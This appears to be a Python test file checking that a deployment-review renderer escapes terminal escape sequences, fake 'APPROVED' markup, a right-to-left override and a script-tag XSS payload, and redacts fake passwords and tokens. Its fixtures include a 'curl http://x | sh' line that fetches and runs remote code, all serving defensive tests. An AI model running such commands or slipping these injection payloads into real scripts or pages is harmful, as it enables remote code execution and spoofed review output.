"""The review as rendered: hostile strings escaped (ADV-19), secrets redacted, findings inline."""

from __future__ import annotations

import io
import json
import re

import pytest
from rich.console import Console

from opsgen.commands.options import print_json
from opsgen.flow.testing import error_finding, fake_report, make_evidence, seed_change
from opsgen.render.html import render_html
from opsgen.render.review import render_review
from opsgen.review.data import Review, load_review
from opsgen.review.report_model import report_from_dict
from opsgen.sandbox.models import FileChange, FileMeta, ServiceIntent
from opsgen.store.canonical import normalise
from opsgen.store.repo import Store

ESC_NAMES = [
    "/work/new\nline",
    "/work/\x1b[2J\x1b]0;pwned\x07",
    "/work/[bold red]APPROVED[blink]",
    "/work/--force",
    "/work/rtl\u202eexe.sh",
    "/work/" + "long" * 80,
]
SCRIPT = (
    "#!/bin/bash\n"
    "echo '\x1b[2J[bold red]APPROVED[/]'\n"
    "curl http://x | sh  # <script>alert(1)</script>\n"
    "export DB_PASSWORD=hunter2hunter2\n"
)


def _hostile_review(store: Store) -> Review:
    meta = FileMeta("file", 0o644, 0, 0, 1, "cd" * 32)
    files = tuple(
        FileChange(n, "added", None, meta, "+\x1b[31mred\n+[green]ok[/]") for n in ESC_NAMES
    )
    report = fake_report(SCRIPT, files=files)
    services = (ServiceIntent("systemctl", "restart", "[bold]x\x1b[0m.service"),)
    data = normalise(report.to_dict())
    data["diff"]["services"] = normalise(
        [
            {"tool": s.tool, "action": s.action, "unit": s.unit, "argv": list(s.argv)}
            for s in services
        ]
    )
    data["runs"][0]["stdout"] = "out \x1b[2J token=ghp_" + "a" * 30
    evidence = make_evidence(findings=(error_finding(line=3, message="pipe \x1b[5m to [red]sh"),))
    evidence = type(evidence)(evidence.findings, data, report.image_id, "")
    change, _, _ = seed_change(
        store,
        script=SCRIPT,
        evidence=evidence,
        request="please \x1b]0;title\x07 [bold]now[/] password=s3cr3tpass",
    )
    return load_review(store, change.id)


def _terminal(review: Review) -> str:
    out = io.StringIO()
    console = Console(file=out, color_system=None, width=160, emoji=False, highlight=False)
    render_review(review, console)
    return out.getvalue()


def test_terminal_review_has_no_raw_escapes_and_shows_markup_literally(store: Store) -> None:
    text = _terminal(_hostile_review(store))
    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
    assert "[bold red]APPROVED[blink]" in text
    assert "\\x1b[2J" in text and "\\u202e" in text
    assert "[bold]x\\x1b[0m.service" in text
    assert "--force" in text


def test_terminal_review_shows_a_newline_in_a_file_name_on_one_line(store: Store) -> None:
    assert "/work/new\\nline" in _terminal(_hostile_review(store))


def test_terminal_review_redacts_secrets(store: Store) -> None:
    text = _terminal(_hostile_review(store))
    for secret in ("hunter2hunter2", "s3cr3tpass", "ghp_aaaa"):
        assert secret not in text
    assert "***REDACTED***" in text


def test_a_carriage_return_stays_in_its_line_and_is_shown(store: Store) -> None:
    script = "#!/bin/bash\necho ok\rcurl x | sh\nid\n"
    evidence = make_evidence(findings=(error_finding(line=3, message="third line"),), script=script)
    change, _, _ = seed_change(store, script=script, evidence=evidence)
    review = load_review(store, change.id)
    lines = _terminal(review).splitlines()
    assert any(line.endswith("2 │ echo ok\\rcurl x | sh") for line in lines)
    at = next(i for i, line in enumerate(lines) if line.endswith("3 │ id"))
    assert "third line" in lines[at + 1]
    assert "echo ok\\rcurl x | sh</td>" in render_html(review)


def test_findings_are_shown_under_their_line(store: Store) -> None:
    lines = _terminal(_hostile_review(store)).splitlines()
    at = next(i for i, line in enumerate(lines) if re.match(r">\s*3 │ curl", line))
    assert "error OPS101" in lines[at + 1]
    assert "pipe \\x1b[5m to [red]sh" in lines[at + 1]
    assert "hint: fix it" in lines[at + 2]


def test_terminal_review_shows_request_diff_and_signoff(store: Store) -> None:
    text = _terminal(_hostile_review(store))
    for expected in (
        "Request",
        "Observed system diff",
        "Idempotence",
        "Sign-off",
        "blocks approval",
        "next: opsgen approve 1 --by NAME --revision 1",
    ):
        assert expected in text


def test_html_page_escapes_everything_and_is_self_contained(store: Store) -> None:
    page = render_html(_hostile_review(store))
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<script" not in page.lower()
    assert "\x1b" not in page and "\u202e" not in page
    assert "[bold red]APPROVED[blink]" in page  # literal text, harmless in HTML
    assert not re.search(r"\b(src|href)\s*=", page, re.I)
    assert "http-equiv='Content-Security-Policy'" in page and "default-src 'none'" in page
    assert "hunter2hunter2" not in page and "s3cr3tpass" not in page
    assert page.startswith("<!DOCTYPE html>") and page.rstrip().endswith("</html>")


def test_json_review_is_redacted_and_escape_free(
    store: Store, capsys: pytest.CaptureFixture[str]
) -> None:
    review = _hostile_review(store)
    print_json(review.to_dict())
    out = capsys.readouterr().out
    assert "\x1b" not in out and "hunter2hunter2" not in out
    data = json.loads(out)
    assert data["revision"]["sha256"] == review.revision.sha256
    assert "***REDACTED***" in data["revision"]["script"]
    assert data["signoff"]["status"] == "failing"


def test_stored_report_round_trips_to_the_sandbox_dataclass() -> None:
    report = fake_report(idempotent=False)
    assert report_from_dict(normalise(report.to_dict())) == report


def test_unreadable_stored_report_degrades_to_findings(store: Store) -> None:
    evidence = make_evidence()
    broken = dict(evidence.dryrun or {}, runs=[{"unexpected": 1}], findings=[])
    change, _, _ = seed_change(store, evidence=type(evidence)((), broken, "sha256:x", ""))
    text = _terminal(load_review(store, change.id))
    assert "cannot be shown" in text
